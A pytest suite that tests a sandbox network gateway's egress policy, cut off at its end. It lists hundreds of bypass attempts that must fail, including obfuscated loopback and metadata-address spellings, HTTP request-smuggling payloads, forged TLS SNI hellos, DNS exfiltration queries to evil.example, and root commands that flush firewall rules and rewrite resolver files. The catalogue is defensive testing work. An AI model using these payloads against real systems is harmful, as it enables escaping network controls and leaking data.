# SPDX-License-Identifier: Apache-2.0
"""Ways around a policy, each tried from inside, none of which may work; and what must work.

The sandbox may reach web.test, and names that lead to places that nobody may reach; on
a.web.test only GET below /pub. A server on the "host" itself and all servers of the world are within
reach of the host: the controls at the end show that, so that a refusal is the gateway's doing.
"""

import json
import os
import struct
import subprocess

import pytest

import caylib
import world as w
from netlib import net, world  # noqa: F401

HERE = os.path.dirname(os.path.abspath(__file__))
SECRET, SECRET_PORT = 'the-host-s-secret', 8089
FAST_MS = 6500  # a refusal comes soon: three waits of the probe and some load

POLICY = '''
rules:
  - {id: pub, hosts: [a.web.test], methods: [GET, HEAD], paths: ["/pub/**"]}
  - {id: no-admin, action: deny, hosts: [b.web.test], paths: ["/admin/**"]}
  - {id: admin-host, hosts: [b.web.test], protocol: http}
  - {id: admin-any, hosts: [b.web.test], ports: [7000, 8080, 8081]}
  - {id: echo, hosts: [web.test], ports: [7000, 8080, 8081]}
  - id: names
    hosts: [web.test, loop.test, loop6.test, mapped.test, zero.test, meta.test, self.test, nat64.test, private.test,
            rebind.test, localhost, "*.localhost"]
    ports: [80, 443, 8089]
    protocol: [http, tls]
'''

HOST_SERVER = f'''
import http.server, socket, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.end_headers(); self.wfile.write(b'{SECRET}')
    def log_message(self, *_): pass
class S(http.server.ThreadingHTTPServer):
    address_family = socket.AF_INET6
S(('::', {SECRET_PORT}), H).serve_forever() if not print('ready', flush=True) else None
'''


def get(token, host='web.test', path='/'):
    return f'GET {path}{token} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n'


ATTEMPTS = []
CONTROLS = []


def add(name, how, *args, log=None, lacks=(), alone=False, to=ATTEMPTS):
    """log: a piece of a path that must not reach a server; else nothing of a server may come back, nor what `lacks` has."""
    to.append({'name': name, 'how': how, 'args': list(args), 'log': log, 'lacks': list(lacks), 'alone': alone})


def control(name, how, *args, want):
    add(name, how, *args, to=CONTROLS)
    CONTROLS[-1]['want'] = want


# -- addresses, directly

for address, port in [
        (w.OTHER4, 80), (w.OTHER4, 443), (w.OTHER4, 22), (w.OTHER4, 7000), (w.WEB4, 80), (w.WEB4, 443), (w.WEB6, 80),
        (w.PRIVATE4, 80), (w.METADATA4, 80), (w.HOST4, SECRET_PORT), (w.HOST6, SECRET_PORT), ('127.0.0.1', SECRET_PORT),
        ('127.1', SECRET_PORT), ('0x7f000001', SECRET_PORT), ('2130706433', SECRET_PORT), ('0177.1', SECRET_PORT),
        ('0.0.0.0', SECRET_PORT), ('0', SECRET_PORT), ('::1', SECRET_PORT), ('::', SECRET_PORT),
        ('::ffff:127.0.0.1', SECRET_PORT), (f'::ffff:{w.HOST4}', SECRET_PORT), (f'::ffff:{w.METADATA4}', 80),
        (f'::{w.HOST4}', SECRET_PORT), ('64:ff9b::7f00:1', SECRET_PORT), ('64:ff9b::a9fe:a9fe', 80),
        ('64:ff9b:1::7f00:1', SECRET_PORT), ('2002:7f00:1::1', SECRET_PORT), ('2001::1', 80), ('fe80::1', SECRET_PORT),
        ('ff02::1', SECRET_PORT), ('224.0.0.1', SECRET_PORT), ('255.255.255.255', SECRET_PORT), ('240.0.0.1', 80),
        ('100.100.100.200', 80), ('168.63.129.16', 80), ('fd00:ec2::254', 80)]:
    add(f'direct {address} {port}', 'tcp', address, port, [get('x', address)])

# -- names that lead where nobody may go, and names that no rule has

for name in ('loop.test', 'loop6.test', 'mapped.test', 'zero.test', 'meta.test', 'self.test', 'nat64.test', 'private.test',
             'localhost', 'x.localhost'):
    for port in (SECRET_PORT, 80):
        add(f'name {name} {port}', 'tcp', name, port, [get('x', name)])
for name in ('other.test', 'WEB.test.evil.example', 'xweb.test', 'web.test.', 'c.web.test'):
    if name != 'web.test.':
        add(f'name {name}', 'tcp', name, 80, [get('x', name)])

# -- the same through the proxies, which take text

SPELLINGS = [
    '127.0.0.1', '127.1', '127.0.1', '0177.0.0.1', '0x7f.0.0.1', '0x7f000001', '0X7F000001', '2130706433', '017700000001',
    '127.0.0.1.', '127.000.000.001', '127.0.0.01', '[::1]', '[::ffff:127.0.0.1]', '[::ffff:7f00:1]', '[::127.0.0.1]',
    '[0:0:0:0:0:ffff:7f00:1]', '[64:ff9b::7f00:1]', '[2002:7f00:1::]', '[::]', '0', '0.0.0.0', 'localhost', 'LOCALHOST',
    'localhost.', 'x.localhost', w.HOST4, f'[{w.HOST6}]', f'[::ffff:{w.HOST4}]', 'self.test', 'loop.test', 'LOOP.TEST.',
    '[::1%25lo]', '[::1%lo]', '\xe2\x91\xa0\xe2\x91\xa1\xe2\x91\xa6.0.0.1', '127\xe3\x80\x820.0.1', '127.0.0.1%00.web.test',
    'web.test\x00.localhost', 'web.test@127.0.0.1', '127.0.0.1#web.test', '127.0.0.1/web.test', '127.0.0.1\t', ' 127.0.0.1',
    '127.0.0.1\\@web.test', 'xn--127-.0.0.1', '1.0.0.127.in-addr.arpa', '00000177.0x0.0.1', '127.0.0.1,web.test']
for text in SPELLINGS:
    add(f'CONNECT {text!r}', 'connect', f'{text}:{SECRET_PORT}', [get('x')])
    add(f'SOCKS {text!r}', 'socks', 3, text.strip('[]'), SECRET_PORT, [get('x')])
for text in (w.METADATA4, '0xa9fea9fe', '2852039166', '0251.0376.0251.0376', f'[::ffff:{w.METADATA4}]', 'meta.test', w.PRIVATE4,
             'private.test', w.OTHER4, 'other.test', w.WEB4, f'[{w.WEB6}]', 'other.test@web.test', 'web.test@other.test',
             'web.test.other.test', 'other.test%00web.test', 'other.test\x00.web.test', 'other.test\r\nX: web.test'):
    add(f'CONNECT {text!r} 80', 'connect', f'{text}:80', [get('x')])
    add(f'SOCKS {text!r} 80', 'socks', 3, text.strip('[]'), 80, [get('x')])
add('CONNECT without a port', 'connect', 'web.test', [get('x')])
add('CONNECT port 0', 'connect', 'web.test:0', [get('x')])
add('CONNECT port with a sign', 'connect', 'web.test:+80', [get('x')])
add('CONNECT to a port that no rule has', 'connect', 'web.test:22', ['x'])
add('CONNECT with another Host', 'connect', 'other.test:80', [get('x')], 'web.test:80')
add('CONNECT to the proxy itself', 'connect', '198.18.0.1:3128', [f'CONNECT {w.OTHER4}:80 HTTP/1.1\r\nHost: x\r\n\r\n', get('x')])
add('CONNECT inside CONNECT', 'connect', 'web.test:80',
    ['CONNECT other.test:80 HTTP/1.1\r\nHost: other.test:80\r\n\r\n' + get('inner', 'other.test')], log='/inner')
add('SOCKS inside CONNECT', 'connect', '198.18.0.1:1080', ['\5\1\0'])
add('the proxy, absolute form, other host', 'tcp', '198.18.0.1', 3128,
    ['GET http://other.test/abs HTTP/1.1\r\nHost: other.test\r\n\r\n'], log='/abs')
add('the proxy, absolute form, Host allowed', 'tcp', '198.18.0.1', 3128,
    ['GET http://other.test/abs2 HTTP/1.1\r\nHost: web.test\r\n\r\n'], log='/abs2')
add('the proxy, second request to another host', 'tcp', '198.18.0.1', 3128,
    ['GET http://web.test/first HTTP/1.1\r\nHost: web.test\r\n\r\nGET http://other.test/abs3 HTTP/1.1\r\nHost: other.test\r\n\r\n'],
    log='/abs3')
for name, kind, bytes_ in (('127.0.0.1', 1, '\x7f\0\0\1'), ('0.0.0.0', 1, '\0\0\0\0'), ('metadata', 1, '\xa9\xfe\xa9\xfe'),
                           ('::1', 4, '\0' * 15 + '\1'), ('::ffff:127.0.0.1', 4, '\0' * 10 + '\xff\xff\x7f\0\0\1'),
                           ('64:ff9b::127.0.0.1', 4, '\0\x64\xff\x9b' + '\0' * 8 + '\x7f\0\0\1')):
    add(f'SOCKS address {name}', 'socks', kind, bytes_, SECRET_PORT, [get('x')])
add('SOCKS BIND', 'socks', 3, 'web.test', 80, [get('x')], 2)
add('SOCKS UDP', 'socks', 3, 'web.test', 80, [get('x')], 3)

# -- TLS: the name in the hello, and what is no hello


def ext(kind, data):
    return struct.pack('>HH', kind, len(data)) + data


def sni(name, kind=0):
    return ext(0, struct.pack('>HBH', len(name) + 3, kind, len(name)) + name)


GROUPS = ext(10, b'\0\4\0\x1d\0\x17') + ext(13, b'\0\6\4\3\5\3\6\3') + ext(11, b'\1\0')


def message(extensions):
    body = b'\3\3' + b'r' * 32 + b'\0' + b'\0\4\xc0\x2b\xc0\x2c' + b'\1\0'
    if extensions is not None:
        body += struct.pack('>H', len(extensions)) + extensions
    return b'\1' + struct.pack('>I', len(body))[1:] + body


def records(data, size=16384):
    parts = [data[i:i + size] for i in range(0, len(data), size)]
    return [(b'\x16\3\1' + struct.pack('>H', len(p)) + p).decode('latin1') for p in parts]


def hello(extensions, size=16384):
    return ''.join(records(message(extensions), size))


TLS = {
    'another name': hello(sni(b'other.test') + GROUPS),
    'a name below': hello(sni(b'a.web.test') + GROUPS),
    'no name': hello(GROUPS),
    'no extensions': hello(None),
    'encrypted hello': hello(sni(b'web.test') + ext(0xfe0d, b'\0\0\1\0\1\0\0\1\0\0\1x') + GROUPS),
    'ESNI': hello(sni(b'web.test') + ext(0xffce, b'x') + GROUPS),
    'two names, first allowed': hello(ext(0, b'\0\x18\0\0\x08web.test\0\0\x0aother.test') + GROUPS),
    'the extension twice': hello(sni(b'web.test') + sni(b'other.test') + GROUPS),
    'a NUL in the name': hello(sni(b'web.test\0.other.test') + GROUPS),
    'an address as name': hello(sni(b'45.90.0.10') + GROUPS),
    'a trailing dot': hello(sni(b'web.test.') + GROUPS),
    'a name of another type': hello(sni(b'web.test', 1) + GROUPS),
    'another name in records of one byte': hello(sni(b'other.test') + GROUPS, 1),
    'something behind the hello': ''.join(records(message(sni(b'web.test') + GROUPS) + message(sni(b'other.test') + GROUPS))),
    'a wrong length': hello(sni(b'web.test') + GROUPS)[:-1] + 'xx',
    'SSL 2': '\x80\x2e\1\3\1\0\x15\0\0\0\x10\0\0\x2f\0\0\x35\0\0\x0a' + 'c' * 40,
    'HTTP instead': get('x'),
    'ssh instead': 'SSH-2.0-x\r\n',
    'noise instead': '\0\1\2\3' * 50,
}
for name, data in TLS.items():
    add(f'TLS: {name}', 'tcp', 'web.test', 443, [data])
    add(f'TLS by CONNECT: {name}', 'connect', 'web.test:443', [data])
add('TLS on the port of plain HTTP', 'tcp', 'web.test', 80, [hello(sni(b'other.test') + GROUPS)])
add('another name in packets of one byte', 'pieces', 'web.test', 443, list(hello(sni(b'other.test') + GROUPS)))

# -- plain HTTP: what the Host says, and requests in requests

SMUGGLED = 'GET /smuggled-{} HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n'
HEAD = 'POST /carrier HTTP/1.1\r\nHost: web.test\r\n'
HTTP = {
    'another Host': 'GET /smuggled-{} HTTP/1.1\r\nHost: other.test\r\n\r\n',
    'another port in Host': 'GET /smuggled-{} HTTP/1.1\r\nHost: web.test:8080\r\n\r\n',
    'no Host': 'GET /smuggled-{} HTTP/1.1\r\n\r\n',
    'no Host in 1.0': 'GET /smuggled-{} HTTP/1.0\r\n\r\n',
    'two Hosts': 'GET /smuggled-{} HTTP/1.1\r\nHost: web.test\r\nHost: other.test\r\n\r\n',
    'two Hosts, the other first': 'GET /smuggled-{} HTTP/1.1\r\nHost: other.test\r\nHost: web.test\r\n\r\n',
    'Host with a blank before the colon': 'GET /smuggled-{} HTTP/1.1\r\nHost : other.test\r\nHost: web.test\r\n\r\n',
    'a folded Host': 'GET /smuggled-{} HTTP/1.1\r\nHost: web.test\r\n other.test\r\n\r\n',
    'Host with userinfo': 'GET /smuggled-{} HTTP/1.1\r\nHost: web.test@other.test\r\n\r\n',
    'Host as a list': 'GET /smuggled-{} HTTP/1.1\r\nHost: web.test, other.test\r\n\r\n',
    'absolute form, another host': 'GET http://other.test/smuggled-{} HTTP/1.1\r\nHost: web.test\r\n\r\n',
    'absolute form with userinfo': 'GET http://web.test@other.test/smuggled-{} HTTP/1.1\r\nHost: web.test\r\n\r\n',
    'absolute form, https': 'GET https://web.test/smuggled-{} HTTP/1.1\r\nHost: web.test\r\n\r\n',
    'Content-Length and chunked': HEAD + 'Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nX' + SMUGGLED,
    'chunked and Content-Length': HEAD + 'Transfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n8\r\nSMUGGLED\r\n0\r\n\r\n' + SMUGGLED,
    'two lengths': HEAD + 'Content-Length: 0\r\nContent-Length: 90\r\n\r\n' + SMUGGLED,
    'a list of lengths': HEAD + 'Content-Length: 0, 90\r\n\r\n' + SMUGGLED,
    'a length with a sign': HEAD + 'Content-Length: +0\r\n\r\n' + SMUGGLED,
    'a length with an underscore': HEAD + 'Content_Length: 90\r\n\r\n' + SMUGGLED,
    'a length in hex': HEAD + 'Content-Length: 0x0\r\n\r\n' + SMUGGLED,
    'a folded length': HEAD + 'Content-Length: 9\r\n 0\r\n\r\n' + SMUGGLED,
    'chunked with a tab': HEAD + 'Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n' + SMUGGLED,
    'chunked twice': HEAD + 'Transfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n' + SMUGGLED,
    'chunked and identity': HEAD + 'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n' + SMUGGLED,
    'xchunked': HEAD + 'Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n' + SMUGGLED,
    'chunked in 1.0': 'POST /carrier HTTP/1.0\r\nHost: web.test\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' + SMUGGLED,
    'bare LF': 'GET /carrier HTTP/1.1\r\nHost: web.test\r\nX: a\n\n' + SMUGGLED,
    'bare CR': 'GET /carrier HTTP/1.1\r\nHost: web.test\rX: a\r\n\r\n' + SMUGGLED,
    'all bare LF': SMUGGLED.replace('\r\n', '\n').replace('other', 'web'),
    'a chunk size with 0x': HEAD + 'Transfer-Encoding: chunked\r\n\r\n0x5\r\nhello\r\n0\r\n\r\n' + SMUGGLED,
    'a chunk size with a blank': HEAD + 'Transfer-Encoding: chunked\r\n\r\n5 \r\nhello\r\n0\r\n\r\n' + SMUGGLED,
    'a chunk with bare LF': HEAD + 'Transfer-Encoding: chunked\r\n\r\n5\nhello\n0\n\n' + SMUGGLED,
    'a chunk that is too long': HEAD + 'Transfer-Encoding: chunked\r\n\r\n5\r\nhello!\r\n0\r\n\r\n' + SMUGGLED,
    'a chunk extension with LF': HEAD + 'Transfer-Encoding: chunked\r\n\r\n5;a\nb\r\nhello\r\n0\r\n\r\n' + SMUGGLED,
    'the next request has another Host': 'GET /carrier HTTP/1.1\r\nHost: web.test\r\n\r\n' + SMUGGLED,
    'the next after a body': HEAD + 'Content-Length: 5\r\n\r\nhello' + SMUGGLED,
    'the next after chunks': HEAD + 'Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n' + SMUGGLED,
    'CONNECT on port 80': 'CONNECT other.test:80 HTTP/1.1\r\nHost: other.test:80\r\n\r\n' + SMUGGLED,
    'HTTP/0.9': 'GET /smuggled-{}\r\n',
    'HTTP/2 at once': 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + SMUGGLED,
    'upgrade to h2c': 'GET /carrier HTTP/1.1\r\nHost: web.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n'
                      'HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n' + SMUGGLED,
    'an empty line first': '\r\n' + SMUGGLED.replace('other', 'web'),
    'a blank first': ' ' + SMUGGLED.replace('other', 'web'),
    'tabs': SMUGGLED.replace('other', 'web').replace(' ', '\t'),
    'a NUL in a header': 'GET /smuggled-{} HTTP/1.1\r\nHost: web.test\0.other.test\r\n\r\n',
}
for number, (name, data) in enumerate(HTTP.items()):
    add(f'HTTP: {name}', 'tcp', 'web.test', 80, [data.replace('{}', f'h{number}x')], log=f'smuggled-h{number}x')
for number, name in enumerate(('two lengths', 'the next request has another Host', 'Content-Length and chunked')):
    data = HTTP[name].replace('{}', f'p{number}')
    add(f'HTTP in pieces: {name}', 'pieces', 'web.test', 80, [data[i:i + 7] for i in range(0, len(data), 7)], log=f'smuggled-p{number}')
for number, cut in enumerate((1, 3, 10)):
    data = HTTP['another Host'].replace('{}', f's{number}')
    add(f'HTTP with pauses, port of any protocol, {cut}', 'slow', 'web.test', 8080, [data[:cut], data[cut:]], log=f'smuggled-s{number}')
    data = hello(sni(b'other.test') + GROUPS)
    add(f'TLS with pauses, port of any protocol, {cut}', 'slow', 'web.test', 7000, [data[:cut], data[cut:]], lacks=['other.test'])
for number, sends in enumerate((['FOO', ' /{} HTTP/1.1'], ['F', 'OO /{} HTTP/1.1'], ['FOO /', '{} HT', 'TP/1.1'], ['FOO /{}', ' ', 'HTTP/1.1'])):
    data = [x.replace('{}', f'smuggled-u{number}') for x in sends] + ['\r\nHost: other.test\r\n\r\n']
    add(f'HTTP with an unknown method and pauses, {number}', 'slow', 'web.test', 8080, data, log=f'smuggled-u{number}')
# Where anything may be spoken: blanks that only some servers take for such, and lines before the request (8081 skips them).
BLANKS = ' \t\x0b\x0c\r\x1c\x1d\x1e\x1f\x85\xa0'
for number, blank in enumerate(BLANKS):
    data = f'GET /smuggled-v{number}x HTTP/1.1\r\nHost: other.test\r\n\r\n'
    line, rest = data.split('\r\n', 1)
    add(f'a blank {blank!r} first, port of any protocol', 'tcp', 'web.test', 8080, [blank + data], log=f'smuggled-v{number}x')
    data = line.replace('v', 'w').replace(' ', blank) + '\r\n' + rest
    add(f'blanks {blank!r}, port of any protocol', 'tcp', 'web.test', 8080, [data], log=f'smuggled-w{number}x')
    data = line.replace('smuggled-v', 'admin/deny').replace(' ', blank) + '\r\nHost: b.web.test:8080\r\n\r\n'
    add(f'a denied path with blanks {blank!r}', 'tcp', 'b.web.test', 8080, [data], log=f'admin/deny{number}x')
for number, line in enumerate(('SSH-2.0-x\r\n', 'PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n', 'PROXY UNKNOWN\r\n')):
    data = 'GET /smuggled-y{}x HTTP/1.1\r\nHost: other.test\r\n\r\n'
    add(f'a request behind {line!r}', 'tcp', 'web.test', 8081, [line + data.replace('{}', f'a{number}')], log=f'smuggled-ya{number}x')
    add(f'a request behind {line!r}, later', 'slow', 'web.test', 8081, [line, data.replace('{}', f'b{number}')], log=f'smuggled-yb{number}x')
    add(f'a request behind {line!r}, in parts', 'slow', 'web.test', 8081, [line + 'G', data[1:].replace('{}', f'c{number}')],
        log=f'smuggled-yc{number}x')
add('opaque bytes where a rule denies paths', 'tcp', 'b.web.test', 7000, ['\0noise'], lacks=['noise'])
add('silence and then opaque bytes where a rule denies paths', 'slow', 'b.web.test', 7000, ['', '\0noise'], lacks=['noise'])
RULES = [('a.web.test', 'POST', '/pub/x'), ('a.web.test', 'GET', '/x'), ('a.web.test', 'get', '/pub/x'), ('a.web.test', 'GET', '/pub/../x'),
         ('a.web.test', 'GET', '/pub/%2e%2e/x'), ('a.web.test', 'GET', '/pub/..%2fx'), ('a.web.test', 'GET', '/pub/..;/x'),
         ('a.web.test', 'GET', '//pub/x'), ('a.web.test', 'GET', '/pub\\..\\x'), ('a.web.test', 'GET', '/%70ub/x'),
         ('a.web.test', 'GET', '/PUB/x'), ('a.web.test', 'PUT', '/pub/x'), ('a.web.test', 'TRACE', '/pub/x'),
         ('b.web.test', 'GET', '/admin/x'), ('b.web.test', 'GET', '/%61dmin/x'), ('b.web.test', 'GET', '/x/../admin/x'),
         ('b.web.test', 'GET', '/admin%2fx'), ('b.web.test', 'GET', '//admin/x'), ('b.web.test', 'GET', '/./admin/x')]
for number, (host, method, path) in enumerate(RULES):
    add(f'rule: {method} {host}{path}', 'tcp', host, 80,
        [f'{method} {path}/ruled-{number}x HTTP/1.1\r\nHost: {host}\r\nContent-Length: 0\r\n\r\n'], log=f'ruled-{number}x')

# -- DNS as a way out, and other resolvers


def query(name, kind=1, flags=0x100):
    labels = b''.join(bytes([len(p)]) + p for p in name.encode('latin1').split(b'.') if p) + b'\0'
    return (struct.pack('>HHHHHH', 7, flags, 1, 0, 0, 0) + labels + struct.pack('>HH', kind, 1)).decode('latin1')


for number, (name, kind) in enumerate([
        ('leak-{}.evil.example', 1), ('leak-{}.evil.example', 16), ('leak-{}.evil.example', 255), ('leak-{}.web.test', 1),
        ('leak-{}.web.test', 16), ('leak-{}.private.test', 28), ('leak-{}.' + 'a' * 60 + '.evil.example', 16), ('leak-{}.localhost', 1),
        ('leak-{}.in-addr.arpa', 12), ('leak-{}.web.test.evil.example', 65), ('leak-{}.rebind.test', 33)]):
    name = name.replace('{}', f'd{number}x')
    add(f'DNS: {name[:40]} type {kind}', 'dns', '198.18.0.1', 53, query(name, kind), log=f'leak-d{number}x')
    add(f'DNS by TCP: {name[:40]} type {kind}', 'dns', '198.18.0.1', 53, query(name, kind), True, log=f'leak-d{number}x')
add('DNS: an update', 'dns', '198.18.0.1', 53, query('leak-u.web.test', 1, 0x2800), log='leak-u')
add('DNS: a notify', 'dns', '198.18.0.1', 53, query('leak-n.web.test', 6, 0x2000), log='leak-n')
for server in (w.DNS4, w.WEB4, '8.8.8.8', '2001:4860:4860::8888', w.HOST4):
    add(f'DNS at {server}', 'dns', server, 53, query('leak-o.evil.example'), log='leak-o')
    add(f'DNS by TCP at {server}', 'dns', server, 53, query('leak-t.evil.example'), True, log='leak-t')
    add(f'DNS at {server} port 5353', 'dns', server, 5353, query('leak-p.evil.example'), log='leak-p')

# -- other ways than TCP; and TCP in other clothes

for host in (w.WEB4, w.OTHER4, w.HOST4, w.WEB6, '198.18.0.1'):
    for port in (443, 7000):
        add(f'UDP {host} {port}', 'udp', host, port, 'hello')
AF_INET, AF_INET6, AF_PACKET, AF_VSOCK = 2, 10, 17, 40
add('ping', 'odd_socket', AF_INET, 2, 1, w.WEB4, 0, '\x08\0\xf7\xff\0\0\0\0')
add('ping 6', 'odd_socket', AF_INET6, 2, 58, w.WEB6, 0, '\x80\0\0\0\0\0\0\0')
add('raw', 'odd_socket', AF_INET, 3, 6, w.OTHER4, 0, 'x' * 20)
add('raw IP', 'odd_socket', AF_INET, 3, 255, w.OTHER4, 0, 'x' * 40)
add('raw ICMP', 'odd_socket', AF_INET, 3, 1, w.WEB4, 0, '\x08\0\xf7\xff\0\0\0\0')
add('packet', 'odd_socket', AF_PACKET, 3, 0x300, None, 0, 'x' * 40)
add('vsock', 'odd_socket', AF_VSOCK, 1, 0, 2, 1024, 'x')
add('SCTP', 'odd_socket', AF_INET, 1, 132, w.OTHER4, 80, get('x'))
add('UDP-Lite', 'odd_socket', AF_INET, 2, 136, w.WEB4, 7000, 'x')
add('DCCP', 'odd_socket', AF_INET, 6, 33, w.WEB4, 80, 'x')
add('MPTCP', 'odd_socket', AF_INET, 1, 262, w.OTHER4, 80, get('x'))
add('MPTCP 6', 'odd_socket', AF_INET6, 1, 262, w.HOST6, SECRET_PORT, get('x'))
add('fast open', 'fast_open', w.OTHER4, 80, get('x'))
add('fast open to the host', 'fast_open', w.HOST4, SECRET_PORT, get('x'))
add('extension headers', 'extended6', w.HOST6, SECRET_PORT, get('x'))
add('bound to 127.0.0.1', 'bound', '127.0.0.1', w.OTHER4, 80, get('x'))
add('bound to the pool', 'bound', '198.18.0.2', w.OTHER4, 80, get('x'))
add('bound to lo', 'device', 'lo', w.OTHER4, 80, get('x'))
add('a mark', 'mark', w.OTHER4, 80, get('x'))

# -- the gateway's own ports

for port in (15001, 53, 80, 443, 22):
    add(f'the gateway port {port}', 'tcp', '198.18.0.1', port, [get('x', 'other.test')])
    add(f'the loopback port {port}', 'tcp', '127.0.0.1', port, [get('x', 'other.test')])
add('the gateway port 15001, IPv6', 'tcp', '::1', 15001, [get('x', 'other.test')])
add('an address of the pool that no name has', 'tcp', '198.19.200.7', 80, [get('x')])
add('the sandbox itself', 'tcp', '198.18.0.2', 80, [get('x')])

# -- taking down what stands in the way (as root where there is one)

for name, script in (('routes', 'ip route flush table all; ip -6 route flush table all'),
                     ('rules', 'ip rule flush; nft flush ruleset; iptables -F -t nat'),
                     ('links', 'ip link set lo down; ip link add d0 type dummy; ip link add v0 type veth; ip link set lo up'),
                     ('addresses', 'ip addr add 45.90.0.1/24 dev lo'),
                     ('resolver', f'echo nameserver {w.DNS4} > /etc/resolv.conf'),
                     ('hosts', f'echo {w.OTHER4} web.test >> /etc/hosts'),
                     ('sysctl', 'echo 1 > /proc/sys/net/ipv4/ip_forward; echo 0 > /proc/sys/net/ipv4/conf/all/rp_filter')):
    add(f'without {name}', 'then_tcp', script, w.OTHER4, 80, [get('x')], alone=True)
add('without tables, by netlink', 'netfilter', w.OTHER4, 80, [get('x')], alone=True)
add('in another namespace', 'namespace', w.OTHER4, 80, [get('x')], alone=True)

# -- what must work, with the same means

control('a name', 'tcp', 'web.test', 80, [get('ok')], want=' at ')
control('a name with a dot', 'tcp', 'web.test.', 80, [get('ok')], want=' at ')
control('a name in capitals', 'tcp', 'WEB.TEST', 80, [get('ok', 'Web.Test')], want=' at ')
control('a request in pieces', 'pieces', 'web.test', 80, list(get('ok')), want=' at ')
control('two requests', 'tcp', 'web.test', 80, ['GET /1 HTTP/1.1\r\nHost: web.test\r\n\r\n' + get('ok')], want='/ok at ')
control('chunks', 'tcp', 'web.test', 80, [HEAD + 'Transfer-Encoding: chunked\r\n\r\n5;x=y\r\nhello\r\n0\r\n\r\n' + get('ok')],
        want='/ok at ')
control('CONNECT', 'connect', 'web.test:80', [get('ok')], want=' at ')
control('CONNECT in capitals with a dot', 'connect', 'WEB.test.:80', [get('ok')], want=' at ')
control('SOCKS', 'socks', 3, 'web.test', 80, [get('ok')], want=' at ')
control('the proxy, absolute form', 'tcp', '198.18.0.1', 3128, ['GET http://web.test/ok HTTP/1.1\r\nHost: web.test\r\n\r\n'], want=' at ')
control('TLS', 'tcp', 'web.test', 443, [hello(sni(b'web.test') + GROUPS)], want='\x16\3\3')
control('TLS in records of one byte', 'tcp', 'web.test', 443, [hello(sni(b'WEB.test') + GROUPS, 1)], want='\x16\3\3')
control('TLS in packets of one byte', 'pieces', 'web.test', 443, list(hello(sni(b'web.test') + GROUPS)), want='\x16\3\3')
control('an allowed path', 'tcp', 'a.web.test', 80, [get('ok', 'a.web.test', '/pub/')], want=' at ')
control('a path that is not denied', 'tcp', 'b.web.test', 80, [get('ok', 'b.web.test', '/x/')], want=' at ')
control('a port of a rule', 'tcp', 'web.test', 7000, ['echoed'], want='echoed')
control('redis', 'tcp', 'web.test', 7000, ['*1\r\n$4\r\nPING\r\n'], want='PING')
control('postgres', 'tcp', 'web.test', 7000, ['\0\0\0\x08\4\xd2\x16\x2f'], want='\x16\x2f')
control('mysql', 'tcp', 'web.test', 7000, ['\x20\0\0\1\x85\xa6'], want='\x85\xa6')
control('ssh', 'tcp', 'web.test', 7000, ['SSH-2.0-x\r\n\0\0\1\x0c'], want='\0\0\1\x0c')
control('ssh with pauses', 'slow', 'web.test', 7000, ['SSH-2.0-x\r\n', '\0\0\1\x0c'], want='SSH-2.0-x\r\n\0\0\1\x0c')
control('a path that is not denied, port of any protocol', 'tcp', 'b.web.test', 8080, [get('ok', 'b.web.test:8080', '/x/')], want=' at ')
control('a word with pauses', 'slow', 'web.test', 7000, ['GEX', 'word'], want='GEXword')
control('HTTP with pauses', 'slow', 'web.test', 8080, ['GE', 'T /ok HTTP/1.1\r\nHost: web.test:8080\r\n\r\n'], want=' at ')
control('DNS', 'dns', '198.18.0.1', 53, query('web.test'), want='\xc6\x12')
control('DNS by TCP', 'dns', '198.18.0.1', 53, query('web.test'), True, want='\xc6\x12')

MARKS = (SECRET, ' at 45.90', ' at 10.99', ' at 169.254', ' at 2a0c', ' at ::ffff', 'SSH-2.0-test', 'REACHED!')


@pytest.fixture(scope='module')
def host_server(world):
    with subprocess.Popen(['/usr/bin/python3', '-c', HOST_SERVER], stdout=subprocess.PIPE,
                          preexec_fn=lambda: world.enter(world.host)) as p:
        assert p.stdout.readline() == b'ready\n'
        yield p
        p.kill()


RESULTS = {}


def probe(net):
    """Everything is tried in one sandbox; each test looks at its part of the result."""
    if RESULTS:
        return RESULTS
    policy = net.policy('bypass.yaml', POLICY)
    ref = net.create('--net', policy, '--ro', f'{HERE}/bypass_probe.py:/probe.py')
    try:
        for group in (CONTROLS, ATTEMPTS):
            net.world.ask('reset')
            user = ['--user', 'root'] if caylib.ROOTFUL and group is ATTEMPTS else []
            r = net('exec', *user, ref, 'python3', '/probe.py', input=json.dumps(group).encode(), timeout=280)
            assert r.code == 0, r
            RESULTS.update(json.loads(r.out))
        state = net.world.ask('state')
        RESULTS['log'] = json.dumps([state['requests'], state['queries']])
        RESULTS['denied'] = len(net.events(ref, 'net.deny'))
    finally:
        net('kill', ref)
    return RESULTS


def test_there_are_enough_and_all_differ():
    names = [a['name'] for a in ATTEMPTS + CONTROLS]
    assert len(names) == len(set(names))
    assert len(ATTEMPTS) >= 120


@pytest.mark.parametrize('name', [c['name'] for c in CONTROLS])
def test_what_is_allowed_works(net, host_server, name):
    want = next(c['want'] for c in CONTROLS if c['name'] == name)
    result = probe(net)[name]
    assert want in result['got'], result


@pytest.mark.parametrize('name', [a['name'] for a in ATTEMPTS])
def test_no_way_around(net, host_server, name):
    a = next(a for a in ATTEMPTS if a['name'] == name)
    results = probe(net)
    result = results[name]
    assert result['ms'] < FAST_MS * caylib.SLOWER, result
    if a['log']:
        assert a['log'] not in results['log'], result
        return
    assert not [m for m in (*MARKS, *a['lacks']) if m in result['got']], result
    if 'TLS' in name or 'packets of one byte' in name:
        assert '\x16\3\3' not in result['got'], result


def test_refusals_are_told(net, host_server):
    assert probe(net)['denied'] > 100


@pytest.mark.parametrize('address', ['127.0.0.1', w.HOST4, f'[{w.HOST6}]', '[::ffff:127.0.0.1]'])
